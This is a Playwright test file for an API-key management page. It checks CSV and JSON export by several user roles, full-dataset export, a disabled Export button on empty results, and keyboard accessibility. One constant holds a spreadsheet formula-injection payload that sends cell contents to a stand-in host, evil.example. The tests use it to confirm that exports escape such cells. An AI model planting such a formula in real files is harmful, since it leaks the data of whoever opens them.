import type { Page } from '@playwright/test';
import {
  expect,
  expectNoAxeViolations,
  MY_KEYS,
  PERSONA_NAMES,
  TENANT_KEYS,
  test,
  type Persona,
} from './fixtures';
import { CSV_HEADER, exportView, parseCsv, viewCount } from './pages/export-file';
import { callApi, createBody } from './pages/mock-api';

/** A description that a spreadsheet would run as a formula, were it not escaped. */
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
const PROBE = 'export-probe';

/** Creates a key of the persona's own with a formula for a description; returns its secret. */
async function createProbe(page: Page): Promise<string> {
  const body = createBody(PROBE);
  body.metadata.annotations.description = FORMULA;
  const answer = await callApi<{ apiKey: string }>(page, 'POST', '/v1/apiKeys', body);
  expect(answer.status).toBe(201);
  const secret = answer.body?.apiKey ?? '';
  expect(secret.length).toBeGreaterThan(10);
  return secret;
}

const PAGES: { persona: Persona; path: string; file: RegExp }[] = [
  { persona: 'admin', path: TENANT_KEYS, file: /^api-keys-[a-z0-9-]+-\d{4}-\d{2}-\d{2}\.(csv|json)$/ },
  { persona: 'viewer', path: TENANT_KEYS, file: /^api-keys-[a-z0-9-]+-\d{4}-\d{2}-\d{2}\.(csv|json)$/ },
  { persona: 'admin', path: MY_KEYS, file: /^my-api-keys-[a-z0-9-]+-\d{4}-\d{2}-\d{2}\.(csv|json)$/ },
  { persona: 'user', path: MY_KEYS, file: /^my-api-keys-[a-z0-9-]+-\d{4}-\d{2}-\d{2}\.(csv|json)$/ },
  { persona: 'viewer', path: MY_KEYS, file: /^my-api-keys-[a-z0-9-]+-\d{4}-\d{2}-\d{2}\.(csv|json)$/ },
];

for (const { persona, path, file } of PAGES)
  test(`${PERSONA_NAMES[persona]} exports the filtered view of ${path} as CSV and JSON`, async ({
    page,
    openKeys,
    consoleErrors,
  }) => {
    await openKeys(persona, path);
    const secret = await createProbe(page);
    // The filtered view, from its URL as a shared link would give it; the tab keeps its mock data.
    await openKeys(persona, path, { reset: false, params: { status: 'active', sort: 'name' } });
    const count = await viewCount(page);
    expect(count).toBeGreaterThan(0);

    const csv = await exportView(page, 'CSV');
    expect(csv.name).toMatch(file);
    expect(csv.text).not.toContain(secret);
    const [header, ...lines] = parseCsv(csv.text);
    expect(header).toEqual(CSV_HEADER);
    expect(lines).toHaveLength(count);
    for (const line of lines) expect(['Active', 'Expiring soon']).toContain(line[5]);
    const probe = lines.find((line) => line[0] === PROBE);
    expect(probe?.[1]).toBe(`'${FORMULA}`);
    expect(probe?.[2]).toBe(PERSONA_NAMES[persona]);
    expect(probe?.[4]).toBe('Active');
    // No cell a spreadsheet would run.
    for (const line of lines) for (const cell of line) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const json = await exportView(page, 'JSON');
    expect(json.name).toMatch(file);
    expect(json.text).not.toContain(secret);
    const records = JSON.parse(json.text) as Record<string, unknown>[];
    expect(records).toHaveLength(count);
    expect(records.map((r) => r.name)).toEqual(lines.map((line) => line[0]));
    expect(records.find((r) => r.name === PROBE)).toMatchObject({ description: FORMULA, status: 'active' });
    expect(consoleErrors).toEqual([]);
  });

test('the export holds every key of the view, not only its page, on the large tenant', async ({
  page,
  openKeys,
}) => {
  await openKeys('admin', TENANT_KEYS, { dataset: 'large', params: { status: 'revoked' } });
  const count = await viewCount(page);
  const shown = await page.getByRole('table', { name: 'API keys' }).getByRole('row').count();
  expect(count).toBeGreaterThan(shown);
  const csv = await exportView(page, 'CSV');
  const [, ...lines] = parseCsv(csv.text);
  expect(lines).toHaveLength(count);
  for (const line of lines) expect(line[5]).toBe('Revoked');
  // A former owner reads as one.
  expect(lines.some((line) => line[2] === 'Former user' && line[4] === 'No longer in the tenant')).toBe(true);
});

test('Export is refused with the reason while nothing matches the filters', async ({ page, openAs }) => {
  await openAs('user', MY_KEYS, { params: { q: 'no key is called this' } });
  await expect(page.getByText('No keys match your filters')).toBeVisible();
  const button = page.getByRole('button', { name: 'Export', exact: true });
  await expect(button).toHaveAttribute('aria-disabled', 'true');
  await expect(button).toHaveAccessibleDescription(/nothing to export/);
  await button.hover();
  await expect(page.getByRole('tooltip')).toHaveText(/nothing to export/);
  await expectNoAxeViolations(page, { theme: 'light' });
  await expectNoAxeViolations(page, { theme: 'dark' });
});

test('the Export menu works by keyboard and is axe clean in both themes', async ({ page, openKeys }) => {
  await openKeys('admin', TENANT_KEYS);
  const button = page.getByRole('button', { name: 'Export', exact: true });
  await expect(button).not.toHaveAttribute('aria-disabled');
  await button.focus();
  await page.keyboard.press('Enter');
  const menu = page.getByRole('menu');
  await expect(menu.getByRole('menuitem')).toHaveCount(2);
  await expect(menu.getByRole('menuitem', { name: /^CSV/ })).toBeFocused();
  await expectNoAxeViolations(page, { theme: 'light' });
  await expectNoAxeViolations(page, { theme: 'dark' });

  await page.keyboard.press('ArrowDown');
  await expect(menu.getByRole('menuitem', { name: /^JSON/ })).toBeFocused();
  const saved = page.waitForEvent('download');
  await page.keyboard.press('Enter');
  expect((await saved).suggestedFilename()).toMatch(/\.json$/);
  await expect(menu).toBeHidden();
  // Focus goes back to the button, as after any menu.
  await expect(button).toBeFocused();
});
